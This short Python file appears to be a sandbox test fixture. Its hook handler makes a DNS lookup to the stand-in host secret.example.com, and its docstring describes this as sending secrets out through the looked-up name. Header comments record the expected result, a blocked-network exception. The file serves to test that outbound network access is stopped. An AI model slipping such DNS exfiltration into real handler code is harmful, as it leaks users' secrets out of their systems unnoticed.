"""Sends secrets in a name to look up."""

# status: exception
# sentence: network is off for this run
# blocked: network socket.getaddrinfo

import socket


def rossum_hook_request_handler(payload):
    socket.getaddrinfo("secret.example.com", 443)
